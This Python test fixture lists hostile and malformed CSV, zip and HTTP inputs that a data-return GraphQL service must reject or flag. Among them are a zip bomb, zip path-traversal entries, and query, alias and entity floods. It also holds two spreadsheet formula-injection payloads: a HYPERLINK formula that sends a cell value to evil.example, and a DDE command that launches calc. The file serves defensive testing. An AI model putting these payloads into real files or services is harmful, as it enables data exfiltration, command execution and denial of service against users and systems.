"""A corpus of hostile or broken uploads and requests, each with what its answer must say.

Upload cases are (file name, bytes) lists sent through submitReturn's multipart upload;
request cases are raw HTTP requests. Every one must get a clear error and store nothing.
Flagged cases are uploads that are readable but carry a hostile value (a spreadsheet
formula): the council may mean such text, so the version is stored, and its report must
flag the value with the named rule.
"""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

CHILD = "child_id,sex\nC1,F\n"


def _zip(members: dict[str, bytes], *, compress: bool = True) -> bytes:
    buffer = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@dataclass(frozen=True)
class Upload:
    name: str
    files: list[tuple[str, bytes]] | Callable[[], list[tuple[str, bytes]]]
    says: str  # part of the message the refusal must carry
    flat: bool = False

    def contents(self) -> list[tuple[str, bytes]]:
        return self.files() if callable(self.files) else self.files


def _bomb() -> list[tuple[str, bytes]]:
    # 300 MB of zeros in a zip of a few hundred KB: past the unpacked limit of 256 MB.
    return [("return.zip", _zip({"child.csv": b"child_id\n" + b"0" * 300_000_000}))]


@dataclass(frozen=True)
class Request:
    name: str
    body: bytes  # COLLECTION in it is replaced by the id of an open collection
    headers: dict[str, str]
    says: str  # part of the error message the answer must carry
    status: int | None = None  # expected HTTP status, when not 200


@dataclass(frozen=True)
class Flagged:
    name: str
    files: list[tuple[str, bytes]]
    rule_id: str  # the rule whose issue the report must hold
    line: int  # the line of the flagged value
    says: str  # part of that message


UPLOADS: list[Upload] = [
    Upload("empty file", [("child.csv", b"")], "empty"),
    Upload("only white space", [("child.csv", b" \n \n")], "empty"),
    Upload("latin-1 text", [("child.csv", "child_id\nC\xe9\n".encode("latin-1"))], "not UTF-8"),
    Upload("utf-16 with bom", [("child.csv", CHILD.encode("utf-16"))], "NUL"),
    Upload("nul bytes", [("child.csv", b"child_id\nC1\x00\n")], "NUL"),
    Upload(
        "semicolon delimiter",
        [("child.csv", b"child_id;sex\nC1;F\n")],
        "seems to use ';' (semicolons) as its delimiter",
    ),
    Upload("tab delimiter", [("child.csv", b"child_id\tsex\nC1\tF\n")], "seems to use tabs as its"),
    Upload(
        "quoted semicolon delimiter, saved by a European-locale spreadsheet",
        [("child.csv", b'"child_id";"date_of_birth"\r\n"C1";"01.02.2012"\r\n')],
        "must be comma-separated",
    ),
    Upload("ragged row, too many", [("child.csv", b"child_id,sex\nC1,F,X\n")], "2 columns"),
    Upload("ragged row, too few", [("child.csv", b"child_id,sex\nC1\n")], "2 columns"),
    Upload("repeated column", [("child.csv", b"child_id,child_id\nC1,C2\n")], "twice"),
    Upload("unknown column", [("child.csv", b"child_id,password\nC1,x\n")], "unknown columns"),
    Upload("blank header", [("child.csv", b",,\nC1,F,x\n")], "name the columns"),
    Upload("huge field", [("child.csv", b"child_id\n" + b"C" * 100_000 + b"\n")], "cannot be read"),
    Upload("unclosed quote", [("child.csv", b'child_id\n"C1\n')], "cannot be read"),
    Upload("file not an entity", [("pupil.csv", b"id\n1\n")], "entity of clas"),
    Upload("spreadsheet by name", [("child.xlsx", b"\x01\x02")], ".csv"),
    Upload("executable by name", [("child.exe", b"MZ\x90\x00")], ".csv"),
    Upload("png named csv", [("child.csv", b"\x89PNG\r\n\x1a\n\x00\x00")], "NUL"),
    Upload(
        "two files for one entity",
        [("child.csv", CHILD.encode()), ("CHILD.csv", CHILD.encode())],
        "second",
    ),
    Upload("path in file name", [("../../etc/child.xlsx", b"x")], ".csv"),
    Upload("not a zip", [("return.zip", b"PK\x03\x04garbage")], "zip"),
    Upload("empty zip", [("return.zip", _zip({}))], "zip"),
    Upload(
        "zip with traversal",
        [("return.zip", _zip({"../child.csv": CHILD.encode()}))],
        "unsafe path",
    ),
    Upload(
        "zip with absolute path",
        [("return.zip", _zip({"/etc/child.csv": CHILD.encode()}))],
        "unsafe path",
    ),
    Upload("zip bomb", _bomb, "allowed size"),
    Upload(
        "zip of too many files",
        [("return.zip", _zip({f"f{i}.csv": b"x" for i in range(60)}))],
        "at most",
    ),
    Upload("zip of a spreadsheet", [("return.zip", _zip({"child.xlsx": b"x"}))], ".csv"),
    Upload(
        "nested zip",
        [("return.zip", _zip({"inner.zip": _zip({"child.csv": CHILD.encode()})}))],
        ".csv",
    ),
    Upload(
        "zip with a non-utf8 csv",
        [("return.zip", _zip({"child.csv": "child_id\n\xe9\n".encode("latin-1")}))],
        "not UTF-8",
    ),
    Upload(
        "flat without entity.field",
        [("export.csv", b"child_id,sex\nC1,F\n")],
        "entity.field",
        flat=True,
    ),
    Upload(
        "flat with unknown entity", [("export.csv", b"pupil.id\n1\n")], "not a field", flat=True
    ),
    Upload(
        "flat with semicolon delimiter",
        [("export.csv", b"child.child_id;child.sex\nC1;F\n")],
        "seems to use ';' (semicolons)",
        flat=True,
    ),
    Upload(
        "flat with two files",
        [("a.csv", b"child.child_id\nC1\n"), ("b.csv", b"child.child_id\nC2\n")],
        "one CSV",
        flat=True,
    ),
]

JSON = {"content-type": "application/json"}
MULTIPART = "multipart/form-data; boundary=x"

REQUESTS: list[Request] = [
    Request("not json", b"{not json", JSON, "is not valid JSON", 400),
    Request(
        "unsupported content type",
        b"query",
        {"content-type": "text/plain"},
        "application/json",
        415,
    ),
    # Valid JSON, but no request object: strawberry crashed on these (a 500) before.
    Request("json string body", b'"{ __typename }"', JSON, "JSON object", 400),
    Request("json number body", b"1", JSON, "JSON object", 400),
    Request(
        "upload without preflight header",
        b"--x--",
        {"content-type": MULTIPART},
        "Preflight",
        400,
    ),
    Request(
        "malformed multipart",
        b"--x\r\nnonsense",
        {"content-type": MULTIPART, "graphql-require-preflight": "1"},
        "No GraphQL document",
        400,
    ),
    Request(
        "oversized multipart upload, refused by its declared length before it is read",
        b"--x--",
        {
            "content-type": MULTIPART,
            "graphql-require-preflight": "1",
            "content-length": str(300 * 1024 * 1024),
        },
        "An upload may be at most 268435456 bytes",
        413,
    ),
    # A `map` that is not an object of lists: strawberry crashed on it (a 500) before.
    Request(
        "multipart map not an object",
        b'--x\r\nContent-Disposition: form-data; name="operations"\r\n\r\n'
        b'{"query": "{ __typename }"}\r\n'
        b'--x\r\nContent-Disposition: form-data; name="map"\r\n\r\n[1]\r\n'
        b'--x\r\nContent-Disposition: form-data; name="0"; filename="a.csv"\r\n\r\na\r\n'
        b"--x--\r\n",
        {"content-type": MULTIPART, "graphql-require-preflight": "1"},
        "`map` part must be a JSON object",
        400,
    ),
    Request(
        "oversized json body",
        b'{"query": "{ __typename }", "pad": "' + b"x" * 3_000_000 + b'"}',
        JSON,
        "A GraphQL request body may be at most 2097152 bytes",
        413,
    ),
    Request(
        "graphql syntax error", b'{"query": "mutation { submitReturn( }"}', JSON, "Syntax Error"
    ),
    Request("unknown field", b'{"query": "{ everyRecordEver }"}', JSON, "Cannot query field"),
    Request(
        "deep query",
        b'{"query": "{ collection(id: \\"x\\") { submissions { collection { submissions { '
        b"collection { submissions { collection { submissions { collection { submissions { "
        b'collection { id } } } } } } } } } } } }"}',
        JSON,
        "exceeds maximum operation depth",
    ),
    Request(
        "alias flood",
        b'{"query": "{ ' + b" ".join(b"a%d: __typename" % i for i in range(40)) + b' }"}',
        JSON,
        "aliases",
    ),
    Request(
        "mutation flood",
        json.dumps(
            {
                "query": "mutation($i: SubmitReturnInput!) { "
                + " ".join(
                    f"s{i}: submitReturn(input: $i) {{ errors {{ message }} }}" for i in range(12)
                )
                + " }",
                "variables": {"i": {"collectionId": "x", "records": {"child": []}}},
            }
        ).encode(),
        JSON,
        "mutations, over the limit",
    ),
    Request(
        "entities flood",
        json.dumps(
            {
                "query": "query($r: [_Any!]!) { _entities(representations: $r) { __typename } }",
                "variables": {"r": [{"__typename": "Organisation", "code": "S12000036"}] * 5000},
            }
        ).encode(),
        JSON,
        "representations to _entities, over the limit",
    ),
    Request(
        "records not an object",
        b'{"query": "mutation($i: SubmitReturnInput!) { submitReturn(input: $i) '
        b'{ errors { message } } }", '
        b'"variables": {"i": {"collectionId": "COLLECTION", "records": [1, 2]}}}',
        JSON,
        "records must be an object of entity name to a list of rows",
    ),
]


# A child record of the smallest valid shape, with `child_id` as given (a free-text field).
def _child(child_id: bytes) -> list[tuple[str, bytes]]:
    return [
        (
            "child.csv",
            b"child_id,council,date_of_birth,sex,ethnicity,disability\n"
            b"C0,S12000036,2012-03-04,F,WS,N\n" + child_id + b",S12000036,2012-03-04,F,WS,N\n",
        )
    ]


FLAGGED: list[Flagged] = [
    Flagged(
        "formula injection in a text value",
        _child(b'"=HYPERLINK(""http://evil.example/?""&A1,""Click"")"'),
        "FORMULA-001",
        3,
        "can run as a formula",
    ),
    Flagged(
        "dde payload after a tab",
        _child(b"\"\t@SUM(1+9)*cmd|' /C calc'!A0\""),
        "FORMULA-001",
        3,
        "can run as a formula",
    ),
]
